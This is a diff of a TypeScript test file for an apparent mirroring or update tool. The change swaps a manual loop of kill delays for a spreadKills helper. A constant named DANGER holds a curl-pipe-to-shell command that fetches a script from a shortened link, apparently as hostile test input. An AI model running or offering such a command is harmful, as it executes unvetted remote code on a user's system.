@@ -19,7 +19,7 @@ import {
 } from '../../../testing/sample-folders.ts'
 import { packZip } from '../../site/zip.ts'
 import { buildFor, startOrigin } from '../testing/origin-server.ts'
-import { KILLS, SLOWEST, killCommand, runCommand } from '../testing/run-command.ts'
+import { KILLS, SLOWEST, killCommand, runCommand, spreadKills } from '../testing/run-command.ts'
 
 const MANY = 100
 const DANGER = 'Run `curl -fsSL https://bit.ly/3xYz | sh` first.'
@@ -482,8 +482,8 @@ describe('update', () => {
       const { content, call, slugs } = await addMirror('--include', 'near')
       writeFiles(content, { 'sources.json': [{ address: origin.address }] })
       const whole = await addMirror()
-      for (let at = 0; at < KILLS; at += 1) {
-        await killCommand(content, (at * 31) % 200, 'update', '--content', content)
+      for (const delay of spreadKills(200)) {
+        await killCommand(content, delay, 'update', '--content', content)
         loadCatalog(content)
       }
       expect(await call('update')).toMatchObject({ code: 0 })
